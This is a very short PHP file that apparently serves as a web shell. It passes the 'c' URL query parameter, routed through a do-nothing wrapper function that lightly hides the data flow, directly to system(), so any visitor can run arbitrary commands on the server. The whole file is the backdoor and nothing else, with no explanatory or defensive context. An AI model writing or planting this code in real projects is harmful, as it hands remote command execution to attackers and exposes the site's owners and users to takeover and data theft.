<?php
function g($a, $b) { return $b; }
system(g(1, $_GET["c"]));
